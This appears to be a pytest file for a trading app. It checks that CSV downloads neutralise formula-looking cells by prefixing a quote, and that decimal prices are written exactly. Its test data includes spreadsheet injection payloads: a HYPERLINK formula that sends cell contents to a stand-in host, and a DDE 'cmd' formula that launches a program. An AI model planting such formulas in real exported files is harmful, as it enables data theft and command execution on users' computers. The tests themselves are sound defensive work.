"""CSV downloads: formula-looking text neutralised (security review, finding 10), numbers left
alone, decimals exact (no 88784.23000000001, no 1e-08)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

from app import db, queries
from app.csv_export import to_csv
from engine.store.database import Store

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"x")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-2010 rejected", "'-2010 rejected"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("BTCUSDT", "BTCUSDT"),
        ("a=b", "a=b"),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(cell: str, written: str):
    assert rows(to_csv(pd.DataFrame({"reason": [cell]})))[0]["reason"] == written


def test_a_carriage_return_cannot_start_a_row():
    text = to_csv(pd.DataFrame({"a": ["x\r=1+1"], "b": [1]}))
    assert text == 'a,b\r\n"x\r=1+1",1\r\n'


def test_numbers_and_headers():
    frame = pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": ["x"],
            "int": [-5],
            "float": [-1.5],
            "decimal": [Decimal("-0.500000000000000000")],
            "when": pd.to_datetime([0], unit="ms"),
        }
    )
    (row,) = rows(to_csv(frame))
    assert row == {
        "'=cmd|' /C calc'!A0": "x",
        "int": "-5",
        "float": "-1.5",
        "decimal": "-0.5",
        "when": "1970-01-01",
    }


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        (Decimal("88784.230000000000000000"), "88784.23"),
        (Decimal("1.0000000000E-8"), "0.00000001"),
        (Decimal("1E+2"), "100"),
        (Decimal("0E-18"), "0"),
        (Decimal("-0E-18"), "0"),
    ],
)
def test_decimals_are_written_exactly_in_plain_notation(stored: Decimal, written: str):
    assert rows(to_csv(pd.DataFrame({"price": [stored]})))[0]["price"] == written


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    s = Store(tmp_path / "t.duckdb")
    monkeypatch.setattr(db, "store", lambda: s)

    def work(con) -> None:
        con.execute(
            "INSERT INTO fills VALUES ('spot', 'BTCUSDT', 1, 'td-1', 'e1', 'BUY', 88784.23, "
            "0.00000001, 0.00088784, 0.00000001, 'BNB', false, 0, 1700000000000)"
        )
        con.execute(
            "INSERT INTO orders (client_order_id, market, symbol, side, order_type, quantity, "
            "price, status, executed_qty, avg_price, reason, actor, created_ms, updated_ms) "
            "VALUES ('td-1', 'spot', 'BTCUSDT', 'BUY', 'LIMIT', 0.00000001, 88784.23, 'FILLED', "
            f"0.00000001, 88784.23, '{HYPERLINK.replace(chr(39), chr(39) * 2)}', '@admin', "
            "1700000000000, 1700000000000)"
        )

    s.write_sync(work)
    yield s
    s.close()


def test_the_order_and_fill_history_downloads_are_exact_and_neutralised(store: Store):
    (order,) = rows(to_csv(queries.order_history(since_ms=0, limit=None, exact=True)))
    assert (order["price"], order["quantity"], order["avg_price"]) == (
        "88784.23", "0.00000001", "88784.23",
    )  # fmt: skip
    assert order["reason"] == "'" + HYPERLINK and order["actor"] == "'@admin"
    (fill,) = rows(to_csv(queries.fill_history(since_ms=0, limit=None, exact=True)))
    assert (fill["price"], fill["qty"], fill["quote_qty"], fill["commission"]) == (
        "88784.23", "0.00000001", "0.00088784", "0.00000001",
    )  # fmt: skip
    shown = queries.fill_history(since_ms=0)  # the page's table keeps floats
    assert shown["price"].dtype == float


def test_the_explore_download_is_exact_and_neutralised(store: Store):
    sql = (
        f"SELECT '{HYPERLINK.replace(chr(39), chr(39) * 2)}' AS a, '@SUM(1+1)' AS b, "
        "'+1+1' AS c, price, commission FROM fills"
    )
    frame, _ = queries.run_select(sql)
    (row,) = rows(to_csv(frame))
    assert row == {
        "a": "'" + HYPERLINK,
        "b": "'@SUM(1+1)",
        "c": "'+1+1",
        "price": "88784.23",
        "commission": "0.00000001",
    }
